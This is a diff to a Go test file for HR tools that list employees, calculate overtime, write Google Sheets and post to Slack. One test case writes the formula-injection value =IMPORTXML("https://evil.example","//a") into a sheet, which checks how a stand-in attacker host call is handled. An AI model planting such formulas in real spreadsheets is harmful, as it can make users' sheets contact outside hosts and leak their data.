@@ -42,6 +42,8 @@ func TestToolsOffline(t *testing.T) {
 		code            int
 		want            []string
 	}{
+		{"list_employees", `{}`, exitOK, []string{`"vendor":"freee"`, "見本 花子"}},
+		{"calculate_overtime", `{"employee_id":"102","month":"2026-05"}`, exitOK, []string{"2026-05-01"}},
 		{"write_rows_to_google_sheet", `{` + document + `,"range":"勤怠 2026!A1","rows":[["氏名","残業"],["見本 あき",320]]}`, exitOK, []string{"Appended 2 rows (4 cells) at '勤怠 2026'!A1:B2."}},
 		{"write_rows_to_google_sheet", `{` + document + `,"range":"'勤怠 2026'","rows":[["=IMPORTXML(\"https://evil.example\",\"//a\")"]]}`, exitOK, []string{"'勤怠 2026'!A3."}},
 		{"read_google_sheet", `{` + document + `,"range":"勤怠 2026"}`, exitOK, []string{`["見本 あき","320"]`, `=IMPORTXML`, `"total_rows":3`}},
@@ -55,6 +57,10 @@ func TestToolsOffline(t *testing.T) {
 		o := invoke(t, dir, "call", test.tool, test.arguments)
 		o.want(t, test.code, test.want...)
 	}
+	for tenant, want := range map[string]string{"kot": `"vendor":"kot"`, "smarthr": `"vendor":"smarthr"`} {
+		invoke(t, dir, "call", "list_employees", "--tenant", tenant).want(t, exitOK, want)
+	}
+	invoke(t, dir, "call", "list_employees", "--tenant", "connected").want(t, exitFailed, "hako connect freee --tenant connected")
 	if m := f.Slack.Messages(); len(m) != 1 || m[0].Text != "&lt;!channel&gt; 残業は 5 時間 20 分です。" {
 		t.Errorf("Slack has %+v", m)
 	}
